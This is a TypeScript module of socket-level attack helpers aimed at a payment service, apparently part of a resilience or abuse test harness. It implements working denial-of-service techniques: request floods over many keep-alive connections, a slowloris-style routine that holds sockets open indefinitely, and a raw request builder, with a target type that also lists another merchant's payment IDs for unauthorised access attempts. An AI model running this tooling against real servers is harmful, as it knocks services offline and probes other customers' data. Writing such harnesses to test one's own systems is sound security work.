/** Attacks over sockets: floods, requests that never end, and responses that are never read. */
import http from 'node:http';
import net from 'node:net';

/** The attacked server, and what the attacker knows. */
export interface Target {
  readonly apiUrl: string;
  readonly checkoutUrl: string;
  readonly dashboardUrl: string;
  /** The attacker's own key. */
  readonly apiKey: string;
  /** Payments of another merchant. */
  readonly foreignIds: readonly string[];
}

/** The number of responses by status. `lost` counts requests without one. */
export type Tally = Record<string, number>;

export interface Run {
  readonly tally: Tally;
  /** The end, in Unix milliseconds. */
  readonly until: number;
}

export const count = ({ tally }: Run, what: string | number): void => {
  tally[what] = (tally[what] ?? 0) + 1;
};

/** Returns the text of a request. */
export function request(url: string, { key = '', lines = [] as string[], body = '' } = {}): string {
  const { host, pathname, search } = new URL(url);
  const head = [
    `${body === '' && lines.length === 0 ? 'GET' : 'POST'} ${pathname}${search} HTTP/1.1`,
    `Host: ${host}`,
    ...(key === '' ? [] : [`Authorization: Bearer ${key}`]),
    ...lines,
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}

export interface Sent {
  readonly url: string;
  readonly key?: string;
  readonly body?: string;
}

/** Sends requests on `connections` sockets, each as soon as the one before has its response. */
export async function flood(run: Run, connections: number, make: () => Sent): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: connections });
  const loop = async (): Promise<void> => {
    while (Date.now() < run.until) count(run, await exchange(agent, make()));
  };
  await Promise.all(Array.from({ length: connections }, loop));
  agent.destroy();
}

async function exchange(agent: http.Agent, { url, key, body }: Sent): Promise<number | 'lost'> {
  return new Promise((resolve) => {
    const headers = {
      ...(key === undefined ? {} : { Authorization: `Bearer ${key}` }),
      ...(body === undefined ? {} : { 'Content-Type': 'application/json', 'Idempotency-Key': 'k' }),
    };
    const sent = http.request(url, { agent, headers, method: body === undefined ? 'GET' : 'POST' });
    sent.on('response', (response) => {
      response.resume().on('close', () => resolve(response.statusCode ?? 'lost'));
    });
    sent.on('error', () => resolve('lost'));
    sent.end(body);
  });
}

/** Keeps `connections` sockets open, and calls `hold` with each new one. */
export async function holdOpen(
  run: Run,
  { url, connections }: { url: string; connections: number },
  hold: (socket: net.Socket) => void,
): Promise<void> {
  const { hostname, port } = new URL(url);
  const sockets = new Set<net.Socket>();
  const open = (): void => {
    const socket = net.connect({ host: hostname, port: Number(port) });
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      count(run, 'closed');
    });
    hold(socket);
  };
  const timer = setInterval(() => {
    for (let missing = connections - sockets.size; missing > 0; missing -= 1) open();
  }, 100);
  await new Promise((resolve) => setTimeout(resolve, run.until - Date.now()));
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
}

/** Reads all responses on the socket, and counts their statuses. */
export function readStatuses(run: Run, socket: net.Socket): void {
  socket.setEncoding('latin1').on('data', (text: string) => {
    for (const [, status = ''] of text.matchAll(/HTTP\/1\.1 (\d{3}) /g)) count(run, status);
  });
}
